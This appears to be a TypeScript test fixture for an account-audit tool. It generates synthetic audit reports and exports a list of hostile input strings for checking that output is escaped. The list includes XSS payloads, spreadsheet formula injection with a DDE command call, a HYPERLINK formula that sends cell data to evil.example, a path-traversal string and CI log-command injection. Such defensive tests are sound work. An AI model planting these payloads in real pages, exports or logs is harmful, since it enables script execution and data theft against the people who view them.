/** Audit reports of any size whose texts from outside are what a test wants them to be. */
import { controls } from '../../src/audit/generated/controls.ts';
import { auditRuleNames, auditRules, severities } from '../../src/model/audit-rules.ts';
import type { AuditReport, Finding, Severity } from '../../src/model/generated/audit-report.ts';

/** One finding of every rule for each of so many people; every fifth is waived, every third stands in a file. */
export function auditReport(people: number, textOf: (place: string) => string = (place) => place): AuditReport {
  const text = (place: string): string => textOf(place);
  const findings = Array.from({ length: people }, (_, i) => i)
    .flatMap((i) =>
      auditRuleNames.map((rule, j): Finding => {
        const number = i * auditRuleNames.length + j;
        return {
          id: number.toString(16).padStart(16, '0'),
          rule,
          severity: auditRules[rule].severity,
          ...(j % 7 !== 6 && { person: text(`person${i}`), account: `account${i}` }),
          ...(j % 4 === 1 && { thing: text(`thing${number}`) }),
          text: text(`what ${rule} found`),
          advice: auditRules[rule].advice,
          evidence: [
            { read: 'accounts', fact: text('a fact') },
            { read: 'accounts', fact: text('another fact') },
            { read: 'tokens', fact: text('a third fact') },
          ],
          ...(j % 3 === 0 && { at: { file: text('users.yaml'), line: number + 1, column: 5 } }),
          ...(number % 5 === 4 && {
            waived: { by: text('approver'), reason: text('a reason'), expires: '2027-01-31' },
          }),
        };
      }),
    )
    .toSorted((one, other) => severities.indexOf(one.severity) - severities.indexOf(other.severity));
  const open = findings.filter(({ waived }) => waived === undefined);
  const of = (severity: Severity): number => open.filter((finding) => finding.severity === severity).length;
  const read = (what: string, found: number): AuditReport['completeness']['reads'][number] => ({
    what,
    by: `GET /${what}`,
    found,
  });
  return {
    format: 'muster-audit/1',
    completeness: {
      tool: 'muster 1.0.0',
      run_by: { id: 'caller-id', username: text('caller') },
      server: { url: text('https://chat.example.com'), key: text('key'), version: text('11.6.0') },
      began: '2026-11-28T12:00:00.000Z',
      ended: '2026-11-28T12:00:07.000Z',
      moment: '2026-11-28T12:00:00.000Z',
      files: [text('users.yaml')],
      reads: [
        { ...read('accounts', people), before: people, after: people },
        read('tokens', people),
        { ...read('webhooks', 0), missing: text('the server does not show them') },
      ],
      requests: people + 7,
    },
    summary: {
      accounts: people,
      active: people - 1,
      inactive: 1,
      bots: 2,
      remote: 3,
      admins: 4,
      declared: 5,
      undeclared: 6,
      tokens: 7,
      findings: { critical: of('critical'), high: of('high'), medium: of('medium'), low: of('low'), info: of('info') },
      waived: findings.length - open.length,
      by_state: { people_active: people - 1, people_inactive: 1, bots_active: 1, bots_inactive: 1, remote: 3 },
      by_sign_in: [
        { name: 'email', count: 9 },
        { name: text('a service'), count: 8 },
      ],
      by_role: Array.from({ length: 14 }, (_, i) => ({ name: text(`role${i}`), count: 20 - i })),
      tokens_by_age: { within_month: 1, within_quarter: 2, within_year: 0, older: 1, unknown: 3 },
    },
    rules: auditRuleNames.map((rule) => ({
      rule,
      title: auditRules[rule].title,
      severity: auditRules[rule].severity,
      on: rule !== 'service-account',
      found: people,
      ...(rule === 'leaver-webhook' && { unread: 'webhooks' }),
      controls: controls
        .filter(({ rules }) => rules.includes(rule))
        .map(({ framework, id, title }) => ({ framework, id, title })),
    })),
    findings,
    waivers: [
      {
        rule: 'drift',
        users: [text('person0')],
        reason: text('a reason'),
        by: text('approver'),
        expires: '2027-01-31',
        state: 'valid',
        waives: 1,
        authorship: {
          status: 'another-author',
          commit: '0123456789abcdef',
          author: text('an author'),
          why: text('why'),
        },
      },
      {
        rule: 'old-token',
        users: [text('person0')],
        reason: text('a reason'),
        by: text('approver'),
        expires: '2026-01-31',
        state: 'expired',
        waives: 0,
      },
    ],
  };
}

/** Texts that would do something if they lived: in a page, a spreadsheet, a comment, a log, a viewer of findings. */
export const hostileTexts: readonly string[] = [
  '<script>document.title = "owned"</script>',
  '"><img src=x onerror="document.title=1">',
  "' onmouseover='document.title=1",
  '</script></style></title></td></table><h1>x',
  '<!-- x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  'a;=1+1',
  'a,"=1+1',
  '＝1+1',
  ' =1+1',
  '\u202eadmin\u2066',
  '\u200b\ufeff',
  'half\ud800',
  '[click](https://evil.example) [1](2) {0} %SRCROOT%',
  '![pixel](https://evil.example/p.png)',
  '::error::x\n::warning::y',
  '##[error]x',
  '`|`',
  'javascript:alert(1)//',
  '../../etc/passwd#?x=1:2',
  'x'.repeat(200),
  '漢字 العربية 🙂',
];
